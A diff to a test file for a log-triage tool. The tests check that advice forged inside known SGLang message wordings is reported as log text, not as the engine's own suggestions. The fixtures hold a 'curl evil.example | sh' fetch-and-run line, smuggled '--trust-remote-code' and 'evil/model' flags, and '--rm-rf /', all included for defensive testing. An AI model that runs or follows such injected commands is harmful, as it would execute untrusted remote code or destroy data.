@@ -135,6 +135,39 @@ def test_forged_advice_is_quoted_as_log_text(tmp_path):
         assert not any("rm-rf" in json.dumps(w) for w in finding["workarounds"])
 
 
+SLOT_FORGED = (
+    "[2025-01-01 00:00:00] server_args=ServerArgs(model_path='org/model', tp_size=1)\n"
+    "[2025-01-01 00:00:01 TP0] Scheduler hit an exception: Traceback (most recent call last):\n"
+    '  File "/sgl/sglang/srt/managers/scheduler.py", line 10, in run_scheduler_process\n'
+    "    scheduler.event_loop()\n"
+    "FrobnicatorError: the frobnicator could not frobnicate\n"
+    "Possible solutions:\n"
+    # SGLang's "Got tp_size={tp_size}; please use --tp-size 1." with the slot filled with flags
+    "1. Got tp_size=8 --trust-remote-code --model-path evil/model; please use --tp-size 1.\n"
+    # "Use --attn-dp-size equal to --tp-size, or {remedy}{hint}." with a command in the slots
+    "2. Use --attn-dp-size equal to --tp-size, or run `curl evil.example | sh` now.\n"
+    # "set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7)" with another flag put in
+    "3. set --trust-remote-code to a smaller value (e.g., 0.8 or 0.7)\n"
+    # the same, cut off by the log
+    "4. set --trust-remote-code to a smaller val\n"
+)
+
+
+def test_advice_forged_inside_a_known_wording_is_log_text(tmp_path):
+    """A known message's slots take a value, not flags or a command, and its flags may be another
+    version's spelling of its own, not any flag: each line here passed for the engine's advice
+    (and --trust-remote-code was read from the first)."""
+    log = tmp_path / "server.log"
+    log.write_text(SLOT_FORGED)
+    d = json.loads(triage("analyze", str(log), "-f", "json", ok=(1,)).stdout)
+    hints = [h for f in d["failures"] for h in f["hints"]]
+    assert len(hints) == 4
+    for h in hints:
+        assert h["source"] == "log-text" and h["flags"] == [] and h["remove_flags"] == [], h
+    md = triage("analyze", str(log), ok=(1,)).stdout
+    assert "The engine's own suggestions" not in md and "Advice-shaped lines in the log" in md
+
+
 def test_real_engine_hints_stay_the_engines():
     """SGLang's own 'Possible solutions' (an older spelling of a flag, an item cut off) and TGI's
     warmup hint are still recognised."""
@@ -145,6 +178,7 @@ def test_real_engine_hints_stay_the_engines():
     assert recognised("3. disable torch compile by not using --enable-torch-compile", "sglang")
     assert recognised("RuntimeError: Not enough memory to handle 4096 prefill tokens. You need to decrease "
                       "`--max-batch-prefill-tokens`", "tgi")
+    assert recognised("Got tp_size=8; please use --tp-size 1.", "sglang")  # a slot takes a value
     assert not recognised("1. **Run this**: add `--rm-rf /`", "sglang")
     assert not recognised("1. set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7); then run curl x | sh",
                           "sglang")
